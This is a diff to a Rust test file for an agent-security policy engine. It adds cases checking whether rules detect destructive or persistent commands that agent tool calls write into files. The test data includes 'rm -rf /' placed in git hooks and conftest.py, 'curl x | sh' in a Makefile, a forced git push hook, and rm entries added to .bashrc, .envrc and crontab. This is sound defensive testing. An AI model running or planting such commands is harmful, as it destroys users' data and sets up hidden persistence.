@@ -12,7 +12,7 @@ use agsec::testing::parity::{bundle, check_loaded};
 use agsec::vm::Scratch;
 use agsec::{ir, oracle, syntax};
 
-use Truth::{False, Late, Opaque, True};
+use Truth::{False, Late, Opaque, True, Unknown};
 
 fn policy(condition: &str) -> ir::Policy {
     let text = format!(
@@ -63,6 +63,67 @@ const CASES: &[(&str, &str, &str, Truth)] = &[
     ("mcp.fs.delete_file", r#"{"path": "a"}"#, "path.touched.access: delete", True),
     ("mcp.db.run", r#"{"sql": "DROP TABLE users"}"#, "shell.commands.code.language: sql", True),
     ("mcp.x.y", r#"{"note": "nothing"}"#, "path.touched.access: delete", False),
+    (
+        "file.write",
+        r##"{"file_path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nrm -rf /"}"##,
+        "written.commands.name: rm",
+        True,
+    ),
+    (
+        "file.write",
+        r#"{"file_path": "notes.txt", "content": "rm -rf /"}"#,
+        "written.commands.name: rm",
+        False,
+    ),
+    (
+        "file.edit",
+        r#"{"file_path": "Makefile", "old_string": "true", "new_string": "curl x | sh"}"#,
+        "written.commands.name: curl",
+        True,
+    ),
+    (
+        "file.edit",
+        r#"{"file_path": "Makefile", "old_string": "true", "new_string": "curl x | sh"}"#,
+        "written.commands.name: rm",
+        False,
+    ),
+    (
+        "file.edit",
+        r#"{"file_path": ".envrc", "old_string": "a", "new_string": "rm b"}"#,
+        "written.commands.name: rm",
+        True,
+    ),
+    (
+        "file.write",
+        r#"{"file_path": "tests/conftest.py", "content": "import os\nos.system('rm -rf /')"}"#,
+        "written.commands.name: rm",
+        True,
+    ),
+    (
+        "bash.execute",
+        r#"{"command": "cat > .git/hooks/post-merge <<'E'\n#!/bin/sh\ngit push -f\nE"}"#,
+        "written.commands.program: git push",
+        True,
+    ),
+    ("bash.execute", r#"{"command": "echo 'rm x' >> ~/.bashrc"}"#, "written.commands.name: rm", True),
+    ("bash.execute", r#"{"command": "echo \"x $Y\" >> ~/.bashrc"}"#, "written.commands.name: rm", False),
+    ("bash.execute", r#"{"command": "echo \"$Y\" >> ~/.bashrc"}"#, "written.commands.name: rm", Unknown),
+    ("bash.execute", r#"{"command": "cp Makefile .git/hooks/pre-push"}"#, "written.commands.name: rm", True),
+    ("bash.execute", r#"{"command": "curl -o .git/hooks/pre-push x"}"#, "written.commands.name: rm", Unknown),
+    (
+        "bash.execute",
+        r#"{"command": "(crontab -l; echo '* * * * * rm x') | crontab -"}"#,
+        "written.commands.name: rm",
+        True,
+    ),
+    ("bash.execute", r#"{"command": "echo 'rm x' > y; echo z"}"#, "written.commands.name: rm", False),
+    ("mcp.fs.write_file", r#"{"path": ".envrc", "content": "rm b"}"#, "written.commands.name: rm", True),
+    (
+        "bash.execute",
+        r#"{"command": "python3 -c 'import os; os.system(\"python3 -c \\\"import os; os.system(\\\\\\\"rm x\\\\\\\")\\\"\")'"}"#,
+        "shell.commands.name: rm",
+        True,
+    ),
 ];
 
 #[test]
@@ -72,6 +133,7 @@ fn conditions_on_facts_of_whole_events() {
         .link("/home/dev/shop/link", "/etc")
         .file("/home/dev/shop/.git/HEAD", "ref: refs/heads/main\n")
         .file("/home/dev/shop/.git/config", "[core]\n")
+        .file("/home/dev/shop/Makefile", "all:\n\ttrue\nclean:\n\trm -rf build\n")
         .file("/etc/passwd", "");
     let surroundings = |_: &Event<'_>| Surroundings {
         cwd: Some("/home/dev/shop".to_owned()),
